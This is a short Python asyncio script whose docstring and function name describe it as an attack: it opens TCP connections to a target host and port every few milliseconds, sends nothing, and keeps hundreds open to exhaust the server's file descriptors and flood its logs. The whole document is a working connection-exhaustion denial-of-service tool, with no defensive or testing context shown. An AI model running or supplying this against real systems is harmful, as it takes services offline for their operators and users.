"""New connections, hundreds a second, that send nothing: they would use up the descriptors, and the log with complaints."""

import asyncio
from contextlib import suppress

KEPT = 400


async def attack(host: str, port: int) -> None:
    opened = []
    try:
        while True:
            with suppress(OSError):
                _, writer = await asyncio.open_connection(host, port)
                opened.append(writer)
            if len(opened) > KEPT:
                opened.pop(0).close()
            await asyncio.sleep(0.003)
    finally:
        for each in opened:
            each.close()
